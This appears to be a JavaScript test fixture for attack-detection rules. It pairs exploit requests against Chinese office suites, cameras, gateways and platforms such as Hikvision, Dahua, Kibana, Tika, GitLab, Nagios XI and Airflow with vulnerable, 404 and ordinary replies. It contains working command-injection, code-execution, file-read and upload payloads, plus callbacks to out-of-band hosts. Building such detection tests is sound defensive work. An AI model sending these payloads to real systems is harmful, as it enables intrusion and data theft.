/** What collections of checks for Chinese suites, gateways and common platforms send: requests as published, answers of the vulnerable product, of one without the page, and of ordinary use. */
import { createHash } from 'node:crypto';
import { html, json, notFound, page, text } from './answers.mjs';
import { ID, PASSWD, form, of, post, upload, xml } from './requests.mjs';

const enc = encodeURIComponent;
const md5 = (words) => createHash('md5').update(words).digest('hex');
const WIN_INI = '; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n[mci extensions]\r\n[files]\r\n[Mail]\r\nMAPI=1\r\n';
const raw = (status, body = '', headers = {}) => () => [status, headers, body];
const plain = (body) => () => text(body);
const put = (path, body, type = 'application/xml') => [path, '-X', 'PUT', '-H', `Content-Type: ${type}`, '--data-binary', body];
const header = (path, ...lines) => [path, ...lines.flatMap((l) => ['-H', l])];
const soap = (inner) => `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>${inner}</soapenv:Body></soapenv:Envelope>`;

const picture = (bytes) => post('/uploads/user', Buffer.from(`------b7MA4\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n${bytes}\r\n------b7MA4--\r\n`, 'latin1'), 'multipart/form-data; boundary=----b7MA4');

/** One rule's captures: the answer of the vulnerable product, a 404, and what its users do. */
function three(folder, what, requests, answer, ordinary, { verdict = 'succeeded', port } = {}) {
  const s = of(folder, port === undefined ? {} : { port });
  return [
    s.hit('vulnerable', verdict, what, answer, requests),
    s.hit('absent', 'attempted', `${what}; 404`, notFound, requests),
    s.miss('use', 'ordinary pages of the product', () => page('首页'), ordinary),
  ];
}

const cp = of('web/calculation-probe');
const calculation = [
  cp.hit('header-sum', 'succeeded', 'a header runs expr behind other words; the sum comes back', plain('1792191371\n'), [header('/goform/exec', 'X-Task: run now expr 870504084 + 921687287')]),
  cp.hit('digest', 'succeeded', 'a digest of a number in a name that no rule knows', plain(md5('999999999')), [['/index.php?c=api&m=data2&param=action=list%20x=%27md5(999999999)%27']]),
  cp.hit('refused', 'attempted', '404', notFound, [["/a.aspx?code=substring(hashbytes('MD5','1697322'),3,32)"]]),
  cp.miss('forms', 'downloads with digests, a shop’s quantities, and prose about expr', () => page('下载'), [['/download?file=a.zip&md5=900150983cd24fb0d6963f7d28e17f72'], ['/cart?sku=12345&n=2*3'], form('/cms/save', `text=${enc('在脚本中使用 expr 1 + 2 或 md5(string) 计算')}`)]),
];

const ob = of('web/out-of-band-request');
const outOfBand = [
  ob.hit('parameter', 'attempted', 'an address of the platform in a parameter; 200', () => page('ok'), [['/feedproxy.aspx?source=http://c0abcd1234.oast.fun/a'], post('/api/x', JSON.stringify({ ref: 'http://k3j2h1.dnslog.cn/' }))]),
  ob.hit('header', 'attempted', 'in a header of its own; 404', notFound, [header('/', 'X-Api-Url: http://q8w7e6.ceye.io/h')]),
  ob.miss('names', 'names that contain the words, and a visit to the platform itself', () => page('ok'), [['/search?q=oast'], ['/blog/dnslog-usage'], header('/', 'Host: dnslog.cn'), ['/go?url=https://www.toast.fun.example.com/']]),
];

const wf = of('shell/windows-file-reply');
const windowsFile = [
  wf.hit('encoded-path', 'succeeded', 'the path travels encoded; win.ini comes back', plain(WIN_INI), [['/Pic/Indexs?imgs=DJwkiEm6KXJZ7aEiGyN4Cz83Kn1PLaKA09']]),
  wf.hit('base64', 'succeeded', 'win.ini in Base64 inside XML', () => [200, { 'Content-Type': 'text/xml' }, `<string>${Buffer.from(WIN_INI).toString('base64')}</string>`], [xml('/ws/picture.asmx', soap('<GetPicture><id>7</id></GetPicture>'))]),
  wf.miss('manual', 'a manual that quotes the file', plain(`第三章 win.ini 文件说明\n文件内容如下：\n${WIN_INI}`), [['/manual/win-ini.txt']]),
];

const cr = of('sensitive/credential-reply');
const users = { code: 0, data: [{ id: 1, username: 'admin', realname: '管理员', password: md5('a'), mobile: '' }, { id: 2, username: 'li', password: md5('b') }] };
const credentials = [
  cr.hit('accounts', 'succeeded', 'a list of accounts with digests, nobody logged in', () => json(users), [['/api/user/list?page=1']]),
  cr.hit('settings', 'succeeded', 'a properties file with the database’s password', plain('jdbc.url=jdbc:mysql://10.1.2.3:3306/oa\njdbc.user=oa\njdbc.password=Oa@2019db\n'), [['/conf/config.properties']]),
  cr.miss('logged-in', 'the same list for an administrator with a session, and a login', () => json(users), [header('/api/user/list?page=1', 'Cookie: JSESSIONID=4F2A'), header('/api/user/list?page=1', 'X-Access-Token: eyJhbGciOiJIUzI1NiJ9.e30.c'), post('/api/login', JSON.stringify({ username: 'admin', password: 'x' }))]),
  cr.miss('manual', 'settings without a password, and a manual', plain('jdbc.url=jdbc:mysql://localhost:3306/demo\njdbc.user=demo\njdbc.password=${DB_PASSWORD}\n\nSet "password" in the file.\n'), [['/docs/settings.txt']]),
];

const su = of('webshell/script-file-upload');
const stored = (path) => (q) => (q.method === 'POST' ? json({ success: true, path }) : text('f1a7'));
const scriptUpload = [
  su.hit('jsp', 'compromised', 'a harmless text under a script’s name, path in the reply, then fetched', stored('/upload/kmab.jsp'), [upload('/servlet/Upload', 'kmab.jsp', 'kmabjemvhr'), ['/upload/kmab.jsp']]),
  su.hit('in-query', 'attempted', 'the name in the query; 404', notFound, [post('/servlet/imagefield?fileName=a.jsp', 'f1a7', 'application/octet-stream')]),
  su.hit('soap', 'attempted', 'the name in a SOAP call; 500', raw(500, 'error'), [xml('/webservices/Job.asmx', soap('<jobUpload><fileName>hkmav.aspx</fileName><contents>AAAA</contents></jobUpload>'))]),
  su.hit('refused', 'attempted', 'refused by extension', () => json({ success: false, msg: '不允许上传该类型文件' }), [upload('/upload', 'a.php', 'abc')]),
  su.miss('files', 'pictures, documents and names that only look like scripts', () => json({ success: true, path: '/u/1.png' }), [upload('/upload', '1.png', 'PNG'), upload('/upload', '关于php.docx', 'PK'), upload('/upload', 'asp.net.pdf', '%PDF'), upload('/jira/rest/attachment', 'index.php', 'abc')]),
];

const PHP = "<?php\n$webdb['db_host'] = 'localhost';\nrequire_once('common.php');\n$user = $_POST['userName'];\n";
const sr = of('sensitive/source-reply');
const source = [
  sr.hit('encoded-name', 'succeeded', 'the name travels in Base64; PHP source comes back', plain(PHP), [['/do/job.php?job=download&url=ZGF0YS9jb25maWcucGg8']]),
  sr.hit('alternate-stream', 'attempted', 'source by another name of the same file', plain(PHP), [['/data/main.php::$DATA']]),
  sr.miss('text', 'an article about PHP, and a template', plain('如何写第一个 PHP 程序：\n<?php echo 1;\n'), [['/docs?name=php.txt'], ['/a.html']]),
];

const ss = of('web/sql-statement', { port: 8080 });
const statement = [
  ss.hit('version', 'succeeded', 'the statement asks for the version', () => json({ api_status: true, data: 'Microsoft SQL Server 2012 - 11.0.2100.60 (X64)' }), [['/Api/portal/getData?sql=select%20@@version']]),
  ss.hit('users', 'succeeded', 'accounts with digests', () => json([{ USERNAME: 'nacos', PASSWORD: '$2a$10$EuWPZHzz32dJN7jexM34MOeYirDdFAZm2kuWj7VEOJhhZkDrxfvUu' }]), [form('/ops/run', `sql=${enc('select * from users')}`)]),
  ss.hit('absent', 'attempted', '404', notFound, [xml('/buffalo/workFlow', '<call><string>select user()</string></call>')]),
  ss.miss('reports', 'reports by name, and a search for the words', () => page('报表'), [['/report?sql=monthly-sales'], ['/search?query=select+a+colour+from+the+list'], form('/cms/save', `text=${enc('教程：select user() 返回当前用户')}`)]),
];

const products = [
  ...three('java/mongo-express-eval', 'document with code for checkValid', [form('/checkValid', `document=${enc("this.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch /tmp/s')")}`)], plain('Valid'), [form('/checkValid', `document=${enc('{"name":"a"}')}`)], { port: 8081 }),
  ...three('java/liferay-jsonws', 'a pool of c3p0 as the default data; output of id', [form('/api/jsonws/invoke', `cmd=${enc('{"/expandocolumn/add-column":{}}')}&tableId=1&name=A&type=1&${enc('+defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource')}=${enc('{"userOverridesAsString":"HexAsciiSerializedMap:aced0005;"}')}`)], plain(ID), [form('/api/jsonws/invoke', `cmd=${enc('{"/user/get-current-user":{}}')}`)], { port: 8080 }),
  ...three('java/kibana-timelion', 'expression that sets the environment of new processes', [post('/api/timelion/run', JSON.stringify({ sheet: [".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"touch /tmp/s\");process.exit()//').props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')"], time: { from: 'now-15m', to: 'now' } }))], () => json({ sheet: [{ type: 'seriesList', list: [] }] }), [post('/api/timelion/run', JSON.stringify({ sheet: ['.es(*).label(a)'] }))], { port: 5601 }),
  ...three('java/tika-header', 'the OCR program is cscript', [['/meta', '-X', 'PUT', '-H', 'X-Tika-OCRTesseractPath: "cscript"', '-H', 'X-Tika-OCRLanguage: //E:Jscript', '-H', 'Content-Type: image/jp2', '--data-binary', 'var s=1;']], plain('"X-Parsed-By","org.apache.tika.parser.DefaultParser"\n'), [['/meta', '-X', 'PUT', '-H', 'X-Tika-OCRLanguage: chi_sim', '--data-binary', 'a']], { port: 9998 }),
  ...three('java/unomi-script', 'a condition with a script', [post('/context.json', JSON.stringify({ filters: [{ id: 'a', filters: [{ condition: { parameterValues: { a: "script::Runtime r = Runtime.getRuntime(); r.exec('touch /tmp/s');" }, type: 'profilePropertyCondition' } }] }], sessionId: 'a' }))], () => json({ profileId: '8d2a1c00-52a2-4f43-8b2c-3d9c1f9b2a77', sessionId: 'a' }), [post('/context.json', JSON.stringify({ sessionId: 'a', source: { itemId: 'home' } }))], { port: 8181 }),
  ...three('java/primefaces-expression', 'expression under the default key; a header shows that it ran', [form('/javax.faces.resource/dynamiccontent.properties.xhtml', 'pfdrt=sc&ln=primefaces&pfdrid=uMKljPgnOTVxmOB%2BH6%2FQEPW9ghJMGL3PRdkfmbiiPkUDzOAoSQnmBt4dYyjvjGhVbBkVHj5xLXXCaFGpOHe704aOkNwaB12Cc3Iq6NmBo%2BQZuqhqtPxdTA%3D%3D')], raw(200, '', { Mogwailabs: 'CHECKCHECK' }), [['/javax.faces.resource/primefaces.js.xhtml?ln=primefaces']]),
  ...three('java/nacos-open-interface', 'accounts and all settings without a token', [['/nacos/v1/auth/users?pageNo=1&pageSize=9'], ['/nacos/v1/cs/configs?export=true&group=&tenant=&appName=&ids=&dataId=']], () => json({ totalCount: 1, pageItems: [{ username: 'nacos', password: '$2a$10$EuWPZHzz32dJN7jexM34MOeYirDdFAZm2kuWj7VEOJhhZkDrxfvUu' }] }), [['/nacos/v1/cs/configs?dataId=app.yml&group=DEFAULT_GROUP'], ['/nacos/v1/auth/users?pageNo=1&pageSize=9&accessToken=eyJhbGciOiJIUzI1NiJ9.e30.abcdefghijk']], { port: 8848 }),
  ...three('cloud/vcenter-interface', 'the plug-in’s upload answers without a login', [['/ui/vropspluginui/rest/services/getstatus']], () => json({ States: '[]', 'Install Progress': 'UNKNOWN', 'Install Final Progress': 'UNKNOWN' }), [['/ui/login'], ['/ui/app/folder;nav=h/urn']]),
  ...three('php/gitlab-exiftool', 'DjVu with a command in its annotation', [picture('AT&TFORM\x00\x00\x03\xafDJVMDIRM\x00\x00\x00.ANTa\x00\x00\x01\x0c(metadata\n\t(Copyright "\\\n" . qx{touch /tmp/s} . \\\n" b ") )')], raw(422, '<html><body><h1>422</h1><p>The change you requested was rejected.</p></body></html>'), [upload('/uploads/user', 'a.jpg', 'JFIF picture (metadata qx{')]),
  ...three('product/hikvision-interface', 'CVE-2021-36260, then the file with the output', [put('/SDK/webLanguage', '<?xml version="1.0" encoding="UTF-8"?><language>$(id>webLib/x)</language>'), ['/portal/conf/config.properties']], plain('bic.username=bic\nbic.password=8kd2Lm\n'), [put('/ISAPI/System/language', '<language>zh</language>'), ['/doc/page/login.asp']]),
  ...three('product/dahua-interface', 'CVE-2021-33044: login as NetKeyboard', [post('/RPC2_Login', JSON.stringify({ id: 1, method: 'global.login', params: { authorityType: 'Default', clientType: 'NetKeyboard', loginType: 'Direct', password: 'Not Used', passwordType: 'Default', userName: 'admin' }, session: 0 }))], () => json({ id: 1, params: { keepAliveInterval: 60 }, result: true, session: '7fe2' }), [post('/RPC2_Login', JSON.stringify({ method: 'global.login', params: { userName: 'admin', password: '', clientType: 'Web3.0' }, id: 1 }))]),
  ...three('product/ruijie-interface', 'the command line behind cli.php', [form('/cli.php?a=shell', 'notdelay=true&command=show+version')], () => json({ data: 'EG_RGOS 11.1(6)B9', status: true }), [form('/login.php', 'username=admin&password=x'), ['/cli.php?a=status']]),
  ...three('product/gateway-interface', 'tables of the database without a login', [['/api/dbstat/gettablessize'], ['/api/dp/rptsvcsyncpoint?ccid=1']], () => json({ result: 0, reason: 'success', data: [{ schema_name: 'public', table_name: 'client' }] }), [['/api/version'], ['/login?refer=%2F']]),
  ...three('office/seeyon-wps-servlet', 'win.ini as the template', [form('/seeyon/wpsAssistServlet', 'flag=template&templateUrl=C:/windows/win.ini')], plain(WIN_INI), [form('/seeyon/wpsAssistServlet', 'flag=open&fileId=77')]),
  ...three('office/weaver-interface', 'a session for a number', [form('/mobile/plugin/VerifyQuickLogin.jsp', 'identifier=1&language=1&ipaddress=x.x.x.x')], () => json({ message: '1', sessionkey: '8d2a1c00-52a2' }), [['/mobile/plugin/loadnews.jsp'], ['/wui/index.html']]),
  ...three('office/yonyou-interface', 'web.xml by the alert service', [['/NCFindWeb?service=IPreAlertConfigService&filename=WEB-INF/web.xml']], () => [200, { 'Content-Type': 'text/xml' }, '<?xml version="1.0"?><web-app><display-name>nc</display-name></web-app>'], [['/portal/app/mockapp/login.jsp'], ['/tplus/view/login.html']]),
  ...three('office/landray-interface', 'accounts by an error of the database', [['/SM/DingUsers.aspx?id=1%20and%201=@@version--']], raw(500, 'Conversion failed when converting the nvarchar value Microsoft SQL Server 2012'), [['/SM/home.aspx'], ['/sys/portal/page.jsp']], { verdict: 'attempted' }),
  ...three('office/wanhu-interface', 'web.xml by the old download', [['/defaultroot/download_old.jsp?path=..&name=x&FileName=WEB-INF/web.xml']], () => [200, { 'Content-Type': 'text/xml' }, '<web-app></web-app>'], [['/defaultroot/login.jsp']], { port: 7001 }),
  ...three('office/tongda-interface', 'upload with a statement in a field', [upload('/general/file_folder/swfupload_new.php', 'a.txt', 'abc', 'ATTACHMENT')], plain("insert into FILE_CONTENT(SORT_ID) values('1')"), [['/general/index.php'], ['/share/handle.php?id=1']]),
  ...three('php/showdoc-upload', 'a picture called .php', [upload('/index.php?s=/home/page/uploadImg', 'a.<>php', 'f1a7', 'editormd-image-file')], () => json({ url: 'http://10.42.1.10/Public/Uploads/2021-01-01/5fee.php', success: 1 }), [upload('/index.php?s=/home/page/uploadImg', 'a.png', 'PNG', 'editormd-image-file')]),
  ...three('java/jumpserver-log', 'what a token stands for', [['/api/v1/users/connection-token/?user-only=1&token=a']], () => json({ user: '8d2a', asset: '7c', system_user: '3f' }), [['/api/v1/users/profile/']]),
  ...three('php/yapi-mock', 'a mock script that leaves the sandbox', [post('/api/plugin/advmock/save', JSON.stringify({ project_id: 1, interface_id: 1, mock_script: 'const f = this.constructor.constructor; mockJson = f("return process")().mainModule.require("child_process").execSync("id").toString()', enable: true }))], () => json({ errcode: 0, errmsg: '成功！' }), [post('/api/plugin/advmock/save', JSON.stringify({ project_id: 1, interface_id: 1, mock_script: 'mockJson.a = 1', enable: true }))], { port: 3000 }),
  ...three('java/salt-api', 'a file written by the wheel module', [post('/run', JSON.stringify({ client: 'wheel_async', fun: 'pillar_roots.write', data: 'x', path: '../../../../tmp/s', username: '1', password: '1', eauth: 'pam' }))], () => json({ return: [{ tag: 'salt/wheel/20210225', jid: '20210225' }] }), [post('/run', JSON.stringify({ job: 'nightly' }))], { port: 8000 }),
  ...three('product/dlink-credentials', 'accounts of the device', [form('/getcfg.php', 'SERVICES=DEVICE.ACCOUNT&AUTHORIZED_GROUP=1%0a')], () => [200, { 'Content-Type': 'text/xml' }, '<service>DEVICE.ACCOUNT</service><name>Admin</name><password>x1y2</password>'], [form('/getcfg.php', 'SERVICES=RUNTIME.TIME')]),
  ...three('product/samsung-wlan', 'the password file by shell:', [form('/(download)/tmp/1.txt', 'command1=shell%3Acat+/etc/passwd|dd of=/tmp/1.txt')], plain(PASSWD), [['/main.ehp']]),
  ...three('java/esafenet-interface', 'the script that makes its database', [['/CDGServer3/SQL/MYSQL/create_SmartSec_mysql.sql']], plain('create table t_user (id varchar(64), pwd varchar(64));'), [['/CDGServer3/index.jsp']], { port: 8443 }),
  ...three('java/smartbi-interface', 'login as system', [form('/smartbi/vision/RMIServlet', `className=UserService&methodName=loginFromDB&params=${enc('["system","0a"]')}`)], () => json({ retCode: 0, result: true, duration: 9 }), [form('/smartbi/vision/RMIServlet', 'className=CatalogService&methodName=getRoot&params=[]')], { port: 18080 }),
  ...three('java/huatian-interface', 'a query by the inner service', [xml('/OAapp/bfapp/buffalo/workFlowService', '<buffalo-call><method>getDataListForTree</method><string>select user()</string></buffalo-call>')], () => [200, { 'Content-Type': 'text/xml' }, '<buffalo-reply><list><string>user()</string><string>root@localhost</string></list></buffalo-reply>'], [['/OAapp/WebObjects/OAapp.woa']]),
  ...three('office/jinher-interface', 'upload by the servlet', [['/jc6/servlet/Upload?officeSaveFlag=0&dbimg=false&path=&setpath=/upload/', '-X', 'POST', '--data-binary', 'a']], plain("var arr=[];arr[0]=parent.pubFileName;arr[2]='/upload/1.jsp'"), [['/c6/Jhsoft.Web.login/PassWord.aspx']]),
  ...three('php/zentao-interface', 'a session called user', [['/zentao/index.php?m=misc&f=captcha&sessionVar=user']], () => html('<img>'), [['/zentao/user-login.html']], { verdict: 'attempted' }),
  ...three('java/airflow-open', 'the example task with a command', [post('/api/experimental/dags/example_trigger_target_dag/dag_runs', JSON.stringify({ conf: { message: '"; touch /tmp/s #' } }))], () => json({ execution_date: '2020-08-04T00:00:00+00:00', message: 'Created <DagRun example_trigger_target_dag>' }), [['/api/experimental/latest_runs']], { port: 8080 }),
  ...three('php/cockpit-nosql', 'an operator in the place of a name', [post('/auth/requestreset', JSON.stringify({ user: { $func: 'var_dump' } }))], plain('string(4) "user" string(7) "$func x" string(7) "rp-a"'), [post('/auth/check', JSON.stringify({ auth: { user: 'admin', password: 'x' } }))]),
  ...three('product/nagiosxi-wizard', 'a command behind the address', [['/nagiosxi/config/monitoringwizard.php?update=1&nextstep=3&wizard=switch&ip_address=127.0.0.1%22;%20id;&plugin_output_len=1']], plain(ID), [['/nagiosxi/config/monitoringwizard.php?update=1&nextstep=3&wizard=switch&ip_address=10.0.0.1']]),
  ...three('java/solr-replication', 'the index of another host', [['/solr/demo/replication/?command=fetchindex&masterUrl=http://203.0.113.66:8000/a']], () => json({ responseHeader: { status: 0 }, status: 'OK' }), [['/solr/demo/replication?command=details']], { port: 8983 }),
];

export default [...calculation, ...outOfBand, ...windowsFile, ...credentials, ...scriptUpload, ...source, ...statement, ...products];
